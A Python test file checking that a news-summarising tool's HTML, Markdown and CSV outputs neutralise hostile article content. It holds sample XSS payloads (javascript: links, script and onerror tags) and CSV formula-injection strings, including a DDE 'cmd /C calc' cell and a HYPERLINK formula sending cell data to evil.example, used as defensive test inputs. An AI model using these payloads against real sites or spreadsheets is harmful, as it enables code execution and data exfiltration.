"""Outputs read by people and their tools are safe whatever the articles hold: only
http(s) links and a CSP in static HTML (checked in the real browser), escaped Markdown,
CSV cells that never run as formulas."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest

from sitrep.render.safe import csv_cell, md_text, safe_url
from tests.support.cli import jsonl, run_sitrep, write_jsonl
from tests.support.web import CHROMIUM, chromium

HOSTILE_URLS = ["javascript:alert(document.domain)", "data:text/html,<script>alert(1)</script>",
                " vbscript:msgbox(1)", "java\tscript:alert(2)", "JAVASCRIPT:alert(3)"]
BODY = ("Firefighters in Valparaiso said on Monday that 40 homes burned overnight as strong "
        "winds spread the fire across the hills above the port city. ")


def _records() -> list[dict[str, str]]:
    rows = [{"id": f"h{i}", "url": url, "outlet": "Wire",
             "title": f'<img src=x onerror="alert({i})"> Fire [click](javascript:alert(9)) {i}',
             "published": f"2026-02-0{i + 1}",
             "text": f"{BODY}<script>alert({i})</script> Report {i}. {BODY}"}
            for i, url in enumerate(HOSTILE_URLS)]
    rows.append({"id": "ok", "url": "https://example.org/fire", "outlet": "Wire",
                 "title": "Fire in Valparaiso", "published": "2026-02-07", "text": BODY * 3})
    return rows


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("safe")
    src = write_jsonl(tmp / "hostile.jsonl", _records())
    res = run_sitrep("run", "--db", str(tmp / "s.db"), "--out", str(tmp / "out"), str(src))
    assert res.returncode == 0, res.stderr
    return tmp


def _stories(results: Path) -> list[str]:
    return [json.loads(line)["id"] for line in
            (results / "out" / "stories.jsonl").read_text().splitlines()]


def test_static_brief_links_only_http_and_carries_a_csp(results: Path) -> None:
    briefs = list((results / "out" / "briefs").glob("*.html"))
    assert briefs
    story = _stories(results)[0]
    cli_html = run_sitrep("brief", "--db", str(results / "s.db"), story, "--format", "html")
    assert cli_html.returncode == 0, cli_html.stderr
    pages = [b.read_text() for b in briefs] + [cli_html.stdout]
    for page in pages:
        assert "Content-Security-Policy" in page
        low = page.lower()
        for scheme in ("javascript:", "vbscript:", "data:text"):
            assert f'href="{scheme}' not in low and f"href='{scheme}" not in low
        assert "<img src=x" not in page and "<script>alert" not in page


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason=f"needs chromium at {CHROMIUM}")
def test_static_brief_in_the_browser(results: Path) -> None:
    pytest.importorskip("playwright")
    out = results / "out"
    targets = [out / "index.html", *sorted((out / "briefs").glob("*.html"))]
    with chromium() as context:
        page = context.new_page()
        dialogs: list[str] = []

        def on_dialog(d: Any) -> None:
            dialogs.append(d.message)
            d.dismiss()

        page.on("dialog", on_dialog)
        for target in targets:
            page.goto(target.as_uri())
            hrefs = page.eval_on_selector_all("a[href]", "els => els.map(e => e.href)")
            for href in hrefs:
                assert href.startswith(("http://", "https://", "file://")), href
            csp = page.eval_on_selector_all(
                "meta[http-equiv='Content-Security-Policy']", "els => els.map(e => e.content)")
            assert csp and "default-src 'none'" in csp[0]
            # The policy is in force: an inline script injected now is refused.
            ran = page.evaluate("""() => { const s = document.createElement('script');
                s.textContent = 'window.__ran = 1'; document.body.appendChild(s);
                return window.__ran === 1; }""")
            assert ran is False
            for link in page.query_selector_all("a[href^='http']"):
                assert link.get_attribute("href") == "https://example.org/fire"
        assert dialogs == []


def test_markdown_brief_escapes_raw_html(results: Path) -> None:
    story = _stories(results)[0]
    res = run_sitrep("brief", "--db", str(results / "s.db"), story, "--format", "md")
    assert res.returncode == 0, res.stderr
    md = res.stdout
    assert "<img" not in md and "<script" not in md
    assert not re.search(r"(?<!\\)\]\(javascript:", md)  # link syntax escaped
    assert "&lt;img src=x" in md or "&lt;script&gt;" in md
    assert "javascript:alert(document.domain) (not an http(s) link)" in md
    assert "<https://example.org/fire>" in md


def test_csv_export_neutralises_formula_cells(tmp_path: Path) -> None:
    formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0",
                "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
    rows = [{"id": f"f{i}", "title": f, "author": f, "text": f"{BODY} {i}"}
            for i, f in enumerate(formulas)]
    src = write_jsonl(tmp_path / "formula.jsonl", rows)
    db = str(tmp_path / "s.db")
    assert run_sitrep("ingest", "--no-annotate", "-q", "--db", db, str(src)).returncode == 0
    res = run_sitrep("export", "articles", "--db", db, "--format", "csv")
    assert res.returncode == 0, res.stderr
    cells = [c for row in csv.reader(io.StringIO(res.stdout)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t")]
    titles = {r["id"]: r["title"] for r in csv.DictReader(io.StringIO(res.stdout))}
    assert titles["f0"] == "'" + formulas[0]
    # JSON Lines keeps the value as it was: only the spreadsheet format is guarded.
    exported = jsonl(run_sitrep("export", "articles", "--db", db).stdout)
    assert {r["title"] for r in exported} == {f.strip() for f in formulas}


def test_helpers() -> None:
    assert safe_url("https://example.org/a?b=1") == "https://example.org/a?b=1"
    for bad in [*HOSTILE_URLS, "//evil.example", "http:/nohost", "", None, "https://a b\n.c"]:
        assert safe_url(bad) is None, bad
    assert md_text("<b>x</b> [a](b) *c*") == r"&lt;b&gt;x&lt;/b&gt; \[a\](b) \*c\*"
    assert csv_cell("=1") == "'=1" and csv_cell(5) == 5 and csv_cell("plain") == "plain"


def test_web_csv_downloads_neutralise_formula_cells(tmp_path: Path) -> None:
    from fastapi.testclient import TestClient

    from sitrep.web import WebSettings, create_app

    db = str(tmp_path / "w.db")
    src = write_jsonl(tmp_path / "f.jsonl", [{"id": "w1", "title": "=HYPERLINK(\"x\",\"y\")",
                                              "outlet": "@SUM(A1)", "text": BODY}])
    assert run_sitrep("ingest", "--no-annotate", "-q", "--db", db, str(src)).returncode == 0
    with TestClient(create_app(WebSettings(db=db, annotate=False))) as client:
        got = client.get("/articles.csv")
    assert got.status_code == 200, got.text
    rows = list(csv.DictReader(io.StringIO(got.text)))
    assert rows[0]["title"] == "'=HYPERLINK(\"x\",\"y\")"
    assert rows[0]["outlet"] == "'@SUM(A1)"
